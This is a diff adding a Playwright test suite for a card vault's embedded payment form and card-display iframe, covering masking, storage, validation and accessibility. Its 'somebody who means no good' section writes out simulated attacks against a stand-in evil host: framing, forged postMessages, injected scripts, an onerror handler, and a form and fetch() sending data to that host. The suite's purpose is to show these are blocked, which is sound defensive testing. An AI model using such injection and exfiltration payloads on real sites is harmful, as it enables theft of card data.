@@ -1,0 +1,667 @@
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { pages } from 'turnout:pages';
+import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
+import { textsByLanguage } from '../../../../shared/vault/pages/page-texts.ts';
+import { eventually } from '../../../support/switch.ts';
+import { inBrowser, launchBrowser } from './a-browser.ts';
+import { aTypedCard } from './a-session.ts';
+import { type ServedVault, type Site, serveSite, serveVault } from './served-vault.ts';
+
+const number = '5555555555554444';
+const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+
+inBrowser('the pages of the vault in a browser', () => {
+  let browser: Browser;
+  let vault: ServedVault;
+  let shop: Site;
+  let evil: Site;
+  let context: BrowserContext;
+  let page: Page;
+  /** Everything that the browser asked anybody for, and what it refused to do. */
+  let asked: { readonly url: string; readonly text: string; readonly from: string }[];
+  let complaints: string[];
+
+  beforeAll(async () => {
+    [browser, vault, shop, evil] = await Promise.all([
+      launchBrowser(),
+      serveVault(),
+      serveSite(),
+      serveSite(),
+    ]);
+  }, 240_000);
+  afterAll(async () => {
+    await browser?.close();
+    await Promise.all([vault?.stop(), shop?.stop(), evil?.stop()]);
+  });
+  beforeEach(async () => {
+    vault.onTheWay = undefined;
+    shop.headers = {};
+    context = await browser.newContext();
+    page = await context.newPage();
+    [asked, complaints] = [[], []];
+    context.on('request', (request) =>
+      asked.push({
+        url: request.url(),
+        text: `${request.postData() ?? ''} ${JSON.stringify(request.headers())}`,
+        from: request.frame().url(),
+      }),
+    );
+    page.on('console', (message) => {
+      if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
+    });
+    page.on('pageerror', ({ message }) => complaints.push(message));
+  });
+  afterEach(() => context.close());
+
+  /** A shop that embeds the form by the script that we give to merchants. */
+  const shopPage = (options: object, head = '') => `<!doctype html>
+<html lang="en"><head><title>Shop</title><link rel="icon" href="data:,">${head}</head><body>
+<main><h1>Shop</h1><div id="card" style="width:400px"></div><button id="pay">Pay</button></main>
+<script src="${vault.url}/v1/embed.js" integrity="${pages.embed.integrity}" crossorigin="anonymous"></script>
+<script>
+window.heard = [];
+addEventListener('message', ({ origin, data }) => heard.push({ origin, data }));
+window.events = [];
+const form = Turnout.mountCardForm(document.getElementById('card'), {
+  ...${JSON.stringify(options)},
+  onReady: () => events.push('ready'),
+  onExpired: () => events.push('expired'),
+  onEnter: () => events.push('enter'),
+});
+document.getElementById('pay').onclick = () => form.submit().then(
+  (card) => { window.outcome = { card }; },
+  ({ code, details }) => { window.outcome = { code, details }; },
+);
+</script></body></html>`;
+
+  const heard = (on = page) =>
+    on.evaluate('heard') as Promise<{ origin: string; data: Record<string, unknown> }[]>; // The page's own.
+  const types = async (on = page) => (await heard(on)).map(({ data }) => data.type);
+  const outcome = () =>
+    eventually(async () => {
+      const found = (await page.evaluate('window.outcome')) as Record<string, unknown> | undefined; // The page's own.
+      if (!found) throw new Error('There is no outcome yet.');
+      return found;
+    });
+
+  function formFrame(of = page): Promise<Frame> {
+    return eventually(() => {
+      const found = of.frames().find((frame) => frame.url().startsWith(vault.url));
+      if (!found) throw new Error('There is no frame of the vault.');
+      return found;
+    });
+  }
+
+  /** Opens the shop with the form in it, once the form can be used. */
+  async function openShop(
+    options: object = {},
+    wanted: { origin?: string } = { origin: shop.url },
+  ) {
+    const sessionToken = await vault.session({ scope: 'card', ...wanted });
+    shop.html = shopPage({ sessionToken, ...options });
+    await page.goto(shop.url);
+    await page.waitForFunction("events.includes('ready')");
+    return { frame: await formFrame(), sessionToken };
+  }
+
+  async function fill(frame: Frame, changes: Partial<Record<string, string>> = {}) {
+    const texts = {
+      card_number: number,
+      cardholder_name: 'ANA LIMA',
+      expiry: '0831',
+      service_code: '737',
+    };
+    for (const [id, text] of Object.entries({ ...texts, ...changes })) {
+      if (text !== undefined) await frame.locator(`#${id}`).pressSequentially(text);
+    }
+  }
+
+  const errorOf = (frame: Frame, id: string) => frame.locator(`#${id}-error`).textContent();
+
+  /** All text of a page, hidden or not, without the addresses in it. */
+  const textOf = async (of: Frame | Page) =>
+    String(await of.evaluate('document.documentElement.textContent'));
+
+  /** What axe finds wrong with a page; its script is let in past the page's policy. */
+  async function flaws(frame: Frame | Page): Promise<unknown> {
+    await frame.evaluate(axe);
+    return frame.evaluate(
+      'axe.run(document, { iframes: false }).then(({ violations }) => violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)]))',
+    );
+  }
+
+  describe('the form', () => {
+    it('stores what is typed and gives the shop a masked card, and the number to nobody', async () => {
+      const { frame } = await openShop();
+      await fill(frame);
+      await page.getByRole('button', { name: 'Pay' }).click();
+      const { card } = await outcome();
+      expect(card).toMatchObject({
+        card_number: '555555******4444',
+        card_type: 'mastercard',
+        cardholder_name: 'ANA LIMA',
+        service_code: '***',
+        expiration_month: '08',
+        expiration_year: '2031',
+        card_token: expect.stringMatching(/^[0-9a-f]{32}$/),
+      });
+      const messages = await heard();
+      expect(new Set(messages.map(({ origin }) => origin))).toEqual(new Set([vault.url]));
+      const seen = [
+        JSON.stringify(messages),
+        await page.content(),
+        ...complaints,
+        ...asked.map(({ url }) => url),
+        ...asked.filter(({ from }) => !from.startsWith(vault.url)).map(({ text }) => text),
+        ...vault.inMemory.logged,
+      ].join('\n');
+      expect(seen).not.toMatch(/5555[ -]?5555[ -]?5555[ -]?4444/);
+      expect(seen).not.toContain('"737"');
+      // It went to the vault once, in a body.
+      const sent = asked.filter(({ text }) => text.includes(number));
+      expect(sent.map(({ url }) => url)).toEqual([`${vault.url}/api/v1/capture_form`]);
+      // And is on the page no more.
+      expect(
+        await frame.evaluate(
+          '[...document.querySelectorAll("input")].map((one) => one.value).join("")',
+        ),
+      ).toBe('');
+      await frame.getByText('Card saved, ending in 4444').waitFor();
+      expect(complaints).toEqual([]);
+    });
+
+    it('loads two files of ours beside the page, and nothing else', async () => {
+      await openShop();
+      const loaded = asked
+        .map(({ url }) => new URL(url))
+        .filter(({ origin }) => origin === vault.url);
+      expect(loaded.map(({ pathname }) => pathname).sort()).toEqual([
+        '/api/v1/capture_form',
+        `/assets/${pages.capture.file}`,
+        `/assets/${pages.frame.file}`,
+        '/v1/embed.js',
+      ]);
+    });
+
+    it('has no token in its address, and leaves nothing in the browser', async () => {
+      const { frame, sessionToken } = await openShop({ locale: 'de' });
+      expect(await frame.evaluate('location.href')).toBe(
+        `${vault.url}/api/v1/capture_form?locale=de`,
+      );
+      const naming = asked.filter(({ url, text }) => `${url} ${text}`.includes(sessionToken));
+      expect(naming.map(({ url }) => new URL(url).pathname)).toEqual(['/api/v1/capture_form']);
+      await fill(frame);
+      await page.getByRole('button', { name: 'Pay' }).click();
+      await outcome();
+      expect(await context.storageState({ indexedDB: true })).toEqual({ cookies: [], origins: [] });
+      expect(
+        await frame.evaluate(
+          '(async () => [localStorage.length, sessionStorage.length, document.cookie, (await caches.keys()).length])()',
+        ),
+      ).toEqual([0, 0, '', 0]);
+      expect(context.serviceWorkers()).toEqual([]);
+    });
+
+    it('stores nothing for a token that was used, and says that another one is needed', async () => {
+      const { frame, sessionToken } = await openShop();
+      await fill(frame);
+      await page.getByRole('button', { name: 'Pay' }).click();
+      await outcome();
+      await page.reload();
+      await page.waitForFunction("events.includes('expired')");
+      expect(await types()).toContain('submit');
+      expect((await heard()).find(({ data }) => data.type === 'submit')?.data).toEqual({
+        type: 'submit',
+        error: { code: 'session_expired', title: 'Session Expired' },
+      });
+      const again = await formFrame();
+      await again.getByRole('heading', { name: 'This page has expired.' }).waitFor();
+      // Whoever submits all the same is not kept waiting for an answer.
+      expect(await page.evaluate('form.submit().catch(({ code }) => code)')).toBe(
+        'session_expired',
+      );
+      // With a new one the same form goes on.
+      const fresh = await vault.session({ scope: 'card', origin: shop.url });
+      expect(fresh).not.toBe(sessionToken);
+      await page.evaluate(`form.renew(${JSON.stringify(fresh)})`);
+      await page.waitForFunction("events.includes('ready')");
+      await fill(await formFrame());
+      await page.getByRole('button', { name: 'Pay' }).click();
+      expect(await outcome()).toHaveProperty('card');
+    });
+
+    it('says what is wrong where it is wrong, once somebody has left the field', async () => {
+      const { frame } = await openShop();
+      await frame.locator('#card_number').pressSequentially('5555 5555');
+      expect(await errorOf(frame, 'card_number')).toBe('');
+      await frame.locator('#cardholder_name').focus();
+      expect(await errorOf(frame, 'card_number')).toBe('Please check the card number.');
+      expect(await frame.locator('#card_number').getAttribute('aria-invalid')).toBe('true');
+      await frame.locator('#card_number').press('End');
+      await frame.locator('#card_number').pressSequentially('55554444');
+      expect(await errorOf(frame, 'card_number')).toBe('');
+
+      await page.getByRole('button', { name: 'Pay' }).click();
+      expect(await outcome()).toEqual({
+        code: 'validation_error',
+        details: {
+          cardholder_name: ['is missing'],
+          expiration_month: ['is missing'],
+          expiration_year: ['is missing'],
+          service_code: ['is missing'],
+        },
+      });
+      expect(await errorOf(frame, 'expiry')).toBe('Please fill this in.');
+      expect(await frame.evaluate('document.activeElement.id')).toBe('cardholder_name');
+      expect(asked.some(({ text }) => text.includes(number))).toBe(false);
+    });
+
+    it('answers `validate` without storing anything', async () => {
+      const { frame } = await openShop();
+      expect(await page.evaluate('form.validate()')).toBe(false);
+      const refused = (await heard()).find(({ data }) => data.type === 'validate')?.data;
+      expect(refused).toMatchObject({
+        type: 'validate',
+        valid: false,
+        errors: { card_number: ['is missing'] },
+      });
+      await fill(frame);
+      expect(await page.evaluate('form.validate()')).toBe(true);
+      const told = (await heard()).filter(({ data }) => data.type === 'validate').at(-1)?.data;
+      expect(told).toEqual({ type: 'validate', valid: true });
+      expect(asked.some(({ text }) => text.includes(number))).toBe(false);
+    });
+
+    it('groups digits as the brand does, names it, and leaves the caret where it was', async () => {
+      const { frame } = await openShop();
+      const input = frame.locator('#card_number');
+      await input.pressSequentially('378282246310005');
+      expect(await input.inputValue()).toBe('3782 822463 10005');
+      expect(await frame.locator('#brand').textContent()).toBe('American Express');
+      await input.fill('');
+      await input.pressSequentially('41111111');
+      expect(await input.inputValue()).toBe('4111 1111');
+      await frame.evaluate('document.getElementById("card_number").setSelectionRange(2, 2)');
+      await page.keyboard.type('9');
+      expect(await input.inputValue()).toBe('4191 1111 1');
+      expect(await frame.evaluate('document.getElementById("card_number").selectionStart')).toBe(3);
+      await page.keyboard.press('Backspace');
+      expect(await input.inputValue()).toBe('4111 1111');
+      const expiry = frame.locator('#expiry');
+      await expiry.pressSequentially('831');
+      expect(await expiry.inputValue()).toBe('08 / 31');
+      for (let key = 0; key < 3; key += 1) await expiry.press('Backspace');
+      expect(await expiry.inputValue()).toBe('0');
+      const told = (await heard()).filter(({ data }) => data.type === 'change');
+      expect(told.some(({ data }) => data.card_type === 'american_express')).toBe(true);
+      expect(Object.keys(told[0]?.data ?? {}).sort()).toEqual([
+        'card_type',
+        'complete',
+        'type',
+        'valid',
+      ]);
+    });
+
+    it('takes the types of card that the merchant takes, and says so while it is typed', async () => {
+      const { frame } = await openShop({ only: ['visa', 'amex'] });
+      await frame.locator('#card_number').pressSequentially('5555');
+      expect(await errorOf(frame, 'card_number')).toBe('This type of card is not accepted here.');
+    });
+
+    it('can be filled in and sent with the keyboard alone', async () => {
+      await openShop();
+      await page.locator('body').focus();
+      await page.keyboard.press('Tab');
+      const frame = await formFrame();
+      for (const [id, text] of [
+        ['card_number', number],
+        ['cardholder_name', 'ANA LIMA'],
+        ['expiry', '08/31'],
+        ['service_code', '737'],
+      ] as const) {
+        expect(await frame.evaluate('document.activeElement.id')).toBe(id);
+        await page.keyboard.type(text);
+        if (id === 'service_code') await page.keyboard.press('Enter');
+        await page.keyboard.press('Tab');
+      }
+      expect(await page.evaluate('document.activeElement.id')).toBe('pay');
+      await page.waitForFunction("events.includes('enter')");
+      await page.keyboard.press('Enter');
+      expect(await outcome()).toHaveProperty('card');
+    });
+
+    it('is 400 by about 220 pixels, and the shop hears when it grows', async () => {
+      const { frame } = await openShop();
+      const heights = async () =>
+        (await heard())
+          .filter(({ data }) => data.type === 'resize')
+          .map(({ data }) => Number(data.height));
+      await eventually(async () => expect((await heights()).length).toBeGreaterThan(0));
+      const before = (await heights()).at(-1) ?? 0;
+      expect(before).toBeGreaterThan(150);
+      expect(before).toBeLessThanOrEqual(225);
+      await page.evaluate('form.validate()');
+      await eventually(async () => expect((await heights()).at(-1)).toBeGreaterThan(before));
+      const shown = await page.evaluate('form.frame.getBoundingClientRect().height');
+      expect(shown).toBe((await heights()).at(-1));
+      expect(await frame.evaluate('document.documentElement.scrollHeight > innerHeight')).toBe(
+        false,
+      );
+    });
+
+    it.each(Object.entries(textsByLanguage))('speaks %s', async (language, texts) => {
+      const { frame } = await openShop({
+        locale: `${language}-XX`,
+      });
+      expect(await frame.evaluate('document.documentElement.lang')).toBe(language);
+      for (const label of [
+        texts.cardNumber,
+        texts.cardholderName,
+        texts.expiry,
+        texts.serviceCode,
+      ]) {
+        await frame.getByLabel(label, { exact: true }).waitFor();
+      }
+      await page.evaluate('form.validate()');
+      expect(await errorOf(frame, 'card_number')).toBe(texts.missing);
+    });
+
+    it.each(['light', 'dark'] as const)(
+      'has nothing that axe finds wrong in the %s',
+      async (colorScheme) => {
+        await page.emulateMedia({ colorScheme });
+        const { frame } = await openShop();
+        expect(await flaws(frame)).toEqual([]);
+        await page.evaluate('form.validate()');
+        expect(await flaws(frame)).toEqual([]);
+        expect(await flaws(page)).toEqual([]);
+      },
+    );
+  });
+
+  describe('somebody who means no good', () => {
+    /** A page of another origin that frames the form. */
+    const thief = (address: string, policy = 'origin') => `<!doctype html><title>Evil</title>
+<link rel="icon" href="data:,"><script>window.heard = [];
+addEventListener('message', ({ origin, data }) => heard.push({ origin, data }));
+setInterval(() => { for (const word of ['submit', 'validate']) frames[0]?.postMessage(word, '*'); }, 20);</script>
+<iframe src="${address}" referrerpolicy="${policy}"></iframe>`;
+
+    it.each(['origin', 'no-referrer'])(
+      'cannot embed a form that is bound to another page, and hears nothing (%s)',
+      async (policy) => {
+        const token = await vault.session({ scope: 'card', origin: shop.url });
+        evil.html = thief(`${vault.url}/api/v1/capture_form?session_token=${token}`, policy);
+        await page.goto(evil.strangeUrl);
+        await eventually(() => expect(complaints.join()).toContain('frame-ancestors'));
+        await eventually(() =>
+          expect(page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/'),
+        );
+        expect(await heard()).toEqual([]);
+      },
+    );
+
+    it('cannot embed a page with a number, whatever they hide', async () => {
+      const card_token = await aTypedCard(vault.inMemory);
+      const token = await vault.session({ scope: 'show_card', card_token, origin: shop.url });
+      const address = `${vault.url}/api/v1/show_card?card_token=${card_token}&session_token=${token}`;
+      evil.html = thief(address, 'no-referrer');
+      await page.goto(evil.strangeUrl);
+      await eventually(() => expect(complaints.join()).toContain('frame-ancestors'));
+      expect(await heard()).toEqual([]);
+    });
+
+    it('cannot embed anything over plain http where the vault is deployed', async () => {
+      const token = await vault.session({ scope: 'card' });
+      shop.html = thief(`${vault.url}/api/v1/capture_form?session_token=${token}`);
+      process.env.LOOPBACK_ALLOWED = 'false';
+      try {
+        await page.goto(shop.url);
+        await eventually(
+          () => expect(complaints.join()).toContain('frame-ancestors https:'),
+          5_000,
+        );
+      } finally {
+        process.env.LOOPBACK_ALLOWED = 'true';
+      }
+    });
+
+    it('hears nothing when nobody knows who they are', async () => {
+      const token = await vault.session({ scope: 'card' });
+      const address = `${vault.url}/api/v1/capture_form?session_token=${token}`;
+      shop.html = thief(address, 'no-referrer');
+      await page.goto(shop.url);
+      const frame = await formFrame();
+      await fill(frame);
+      expect(await heard()).toEqual([]);
+      // Their words were not heeded either.
+      expect(await errorOf(frame, 'card_number')).toBe('');
+      // A page that may be known is spoken with, although its token names no origin.
+      const other = await vault.session({ scope: 'card' });
+      shop.html = thief(`${vault.url}/api/v1/capture_form?session_token=${other}`, 'origin');
+      await page.goto(shop.url);
+      await eventually(async () => expect(await types()).toContain('ready'));
+    });
+
+    it('commands nothing from another frame of the same page', async () => {
+      const { frame } = await openShop();
+      evil.html = `<!doctype html><script>setInterval(() => {
+        for (const word of ['submit', 'validate']) parent.frames[0].postMessage(word, '*'); }, 10);</script>`;
+      await page.evaluate(`for (const src of [${JSON.stringify(evil.strangeUrl)}, undefined]) {
+        const frame = document.createElement('iframe');
+        if (src) frame.src = src;
+        document.body.append(frame);
+        // One of the shop's own origin as well: it is not the parent.
+        if (!src) frame.contentWindow.eval("setInterval(() => parent.frames[0].postMessage('validate', '*'), 10)");
+      }`);
+      await page.waitForTimeout(400);
+      expect(await types()).not.toContain('validate');
+      expect(await types()).not.toContain('submit');
+      expect(await errorOf(frame, 'card_number')).toBe('');
+      expect(await page.evaluate('form.validate()')).toBe(false);
+    });
+
+    it('is told that a page is not theirs to open, and not to try again', async () => {
+      const sessionToken = await vault.session({ scope: 'show_card', origin: shop.url });
+      shop.html = shopPage({ sessionToken });
+      await page.goto(shop.url);
+      await eventually(async () => expect(await types()).toContain('submit'));
+      expect(await page.evaluate('form.submit().catch(({ code }) => code)')).toBe('scope_mismatch');
+      expect(await page.evaluate('events')).toEqual([]);
+      await page.evaluate('form.destroy()');
+      expect(await page.evaluate('form.submit().catch(({ code }) => code)')).toBe('destroyed');
+      expect(await page.locator('iframe').count()).toBe(0);
+    });
+
+    it('forges no answers to the shop', async () => {
+      await openShop();
+      evil.html = `<!doctype html><script>setInterval(() =>
+        parent.postMessage({ type: 'submit', card: { card_token: 'forged' } }, '*'), 10);</script>`;
+      await page.evaluate(`{ const frame = document.createElement('iframe');
+        frame.src = ${JSON.stringify(evil.strangeUrl)}; document.body.append(frame); }`);
+      await page.waitForFunction('heard.some(({ data }) => data.card)');
+      await page.getByRole('button', { name: 'Pay' }).click();
+      expect(await outcome()).toMatchObject({ code: 'validation_error' });
+    });
+
+    it('changes no script: a browser that is given other bytes runs none of them', async () => {
+      vault.onTheWay = (path, text) =>
+        path.endsWith(pages.capture.file) ? `${text};window.stolen=true` : text;
+      shop.html = shopPage({
+        sessionToken: await vault.session({ scope: 'card', origin: shop.url }),
+      });
+      await page.goto(shop.url);
+      const frame = await formFrame();
+      await eventually(() => expect(complaints.join()).toContain('integrity'));
+      await frame.locator('#card_number').pressSequentially('5555555');
+      expect(await frame.locator('#card_number').inputValue()).toBe('5555555');
+      expect(await frame.evaluate('window.stolen')).toBeUndefined();
+      expect(await types()).toEqual([]);
+    });
+
+    it('adds no script: neither one in the page, nor in an attribute, nor of another name', async () => {
+      const added = `<script>window.stolen = 'inline'</script><img src="data:," onerror="window.stolen = 'attribute'">
+        <script src="${evil.url}/?script"></script><script src="${vault.url}/assets/${pages.show.file}"></script>
+        <style>body { color: rgb(1, 2, 3) }</style><base href="${evil.url}">
+        <form id="leak" action="${evil.url}" method="get"><input name="a" value="b"></form>`;
+      vault.onTheWay = (path, text) =>
+        path.endsWith('/capture_form') ? text.replace('<main', `${added}<main`) : text;
+      const { frame } = await openShop();
+      await frame.evaluate('document.getElementById("leak").submit()');
+      await frame.evaluate(`fetch(${JSON.stringify(evil.url)}).catch(() => 0)`);
+      expect(
+        await frame.evaluate(
+          'try { document.body.innerHTML = "<b>x</b>"; "made" } catch { "refused" }',
+        ),
+      ).toBe('refused');
+      expect(await frame.evaluate('window.stolen')).toBeUndefined();
+      expect(await frame.evaluate('getComputedStyle(document.body).color')).not.toBe(
+        'rgb(1, 2, 3)',
+      );
+      expect(await frame.evaluate('document.baseURI')).toContain(vault.url);
+      expect(
+        complaints.filter((one) => /Content Security Policy/.test(one)).length,
+      ).toBeGreaterThan(5);
+      await fill(frame);
+      await page.getByRole('button', { name: 'Pay' }).click();
+      expect(await outcome()).toHaveProperty('card');
+    });
+  });
+
+  describe('the page that shows a card', () => {
+    async function openShown(withCode = true, colorScheme: 'light' | 'dark' = 'light') {
+      const card_token = await aTypedCard(vault.inMemory);
+      const query = new URLSearchParams({
+        card_token,
+        session_token: await vault.session({ scope: 'show_card', card_token, origin: shop.url }),
+        ...(withCode && {
+          service_code_token: await vault.session({ scope: 'show_service_code', card_token }),
+        }),
+      });
+      await page.emulateMedia({ colorScheme });
+      shop.html = `<!doctype html><html lang="en"><title>Shop</title><link rel="icon" href="data:,">
+<script>window.heard = []; addEventListener('message', ({ origin, data }) => heard.push({ origin, data }));</script>
+<main><h1>Shop</h1><iframe title="Card" width="400" height="220" sandbox="allow-scripts allow-same-origin"
+src="${vault.url}/api/v1/show_card?${query}"></iframe></main></html>`;
+      await page.goto(shop.url);
+      const frame = await formFrame();
+      await eventually(async () => expect(await types()).toContain('shown'));
+      return { frame, card_token };
+    }
+
+    it('shows the number to who looks, and tells the shop that it did and no more', async () => {
+      const { frame, card_token } = await openShown(false);
+      await frame.getByText('5555 5555 5555 4444').waitFor();
+      expect(await frame.getByRole('button').count()).toBe(0);
+      const messages = await heard();
+      expect(messages.filter(({ data }) => data.type !== 'resize')).toEqual([
+        { origin: vault.url, data: { type: 'shown', what: 'card', card_token } },
+      ]);
+      expect(JSON.stringify(messages)).not.toMatch(/\b4444\b/);
+      expect(await frame.evaluate('location.href')).toBe(`${vault.url}/api/v1/show_card`);
+      expect(await context.storageState()).toEqual({ cookies: [], origins: [] });
+      expect(complaints).toEqual([]);
+    });
+
+    it('loads the service code when it is asked for, once', async () => {
+      const { frame, card_token } = await openShown();
+      expect(await textOf(frame)).not.toContain('737');
+      await frame.getByRole('button', { name: 'Show' }).click();
+      await frame.getByText('737', { exact: true }).waitFor();
+      expect(await frame.getByRole('button').count()).toBe(0);
+      const shown = (await heard()).filter(({ data }) => data.type === 'shown');
+      expect(shown.map(({ data }) => data)).toEqual([
+        { type: 'shown', what: 'card', card_token },
+        { type: 'shown', what: 'service_code', card_token },
+      ]);
+      const held = await vault.inMemory.vault.codes.held(
+        'shop',
+        [card_token],
+        vault.inMemory.clock.now,
+      );
+      expect(held.size).toBe(0);
+    });
+
+    it('says that the service code is gone when somebody else was first', async () => {
+      const { frame, card_token } = await openShown();
+      await vault.inMemory.vault.codes.drop({
+        ...{
+          tenant: 'shop',
+          cardToken: card_token,
+          reason: 'test',
+          origin: 'test',
+          requestId: 'r',
+        },
+        ...{ actor: { kind: 'job', id: 'test' }, now: vault.inMemory.clock.now },
+      });
+      await frame.getByRole('button', { name: 'Show' }).click();
+      await frame.getByText('No longer available').waitFor();
+    });
+
+    it('takes everything away after a minute', async () => {
+      await page.clock.install();
+      const { frame } = await openShown();
+      await frame.getByRole('button', { name: 'Show' }).click();
+      await frame.getByText('737', { exact: true }).waitFor();
+      await page.clock.runFor(59_000);
+      expect(await frame.content()).toContain('5555 5555 5555 4444');
+      await page.clock.runFor(2_000);
+      await frame.getByText('The details have been hidden for your security.').waitFor();
+      const content = await textOf(frame);
+      expect(content).not.toContain('4444');
+      expect(content).not.toContain('737');
+    });
+
+    it('takes everything away when nobody looks at its tab any more', async () => {
+      const { frame } = await openShown();
+      await frame.evaluate(`Object.defineProperty(document, 'visibilityState', { get: () => 'hidden' });
+        document.dispatchEvent(new Event('visibilitychange'))`);
+      await frame.getByText('The details have been hidden for your security.').waitFor();
+      expect(await textOf(frame)).not.toContain('4444');
+    });
+
+    it('is left off paper', async () => {
+      const { frame } = await openShown();
+      expect(await frame.getByText('Card details are not printed.').isVisible()).toBe(false);
+      await page.emulateMedia({ media: 'print' });
+      expect(await frame.getByText('5555 5555 5555 4444').isVisible()).toBe(false);
+      expect(await frame.getByText('ANA LIMA').isVisible()).toBe(false);
+      expect(await frame.getByText('Card details are not printed.').isVisible()).toBe(true);
+    });
+
+    it.each(['light', 'dark'] as const)(
+      'has nothing that axe finds wrong in the %s',
+      async (scheme) => {
+        const { frame } = await openShown(true, scheme);
+        expect(await flaws(frame)).toEqual([]);
+        await frame.getByRole('button', { name: 'Show' }).click();
+        await frame.getByText('737', { exact: true }).waitFor();
+        expect(await flaws(frame)).toEqual([]);
+      },
+    );
+
+    it('opens once: who comes later is told that it has expired', async () => {
+      const { frame } = await openShown();
+      await page.reload();
+      const again = await formFrame();
+      await again.getByRole('heading', { name: 'This page has expired.' }).waitFor();
+      expect(await textOf(again)).not.toContain('4444');
+      expect(await flaws(again)).toEqual([]);
+      expect(frame.isDetached()).toBe(true);
+    });
+
+    it('has a sibling that shows the service code alone', async () => {
+      const card_token = await aTypedCard(vault.inMemory);
+      const session_token = await vault.session({ scope: 'show_service_code', card_token });
+      const query = new URLSearchParams({ card_token, session_token });
+      await page.goto(`${vault.url}/api/v1/show_service_code?${query}`);
+      await page.getByText('737', { exact: true }).waitFor();
+      expect(page.url()).toBe(`${vault.url}/api/v1/show_service_code`);
+      expect(await flaws(page)).toEqual([]);
+      await page.emulateMedia({ media: 'print' });
+      expect(await page.getByText('737', { exact: true }).isVisible()).toBe(false);
+      expect(await textOf(page)).not.toContain('4444');
+    });
+  });
+});
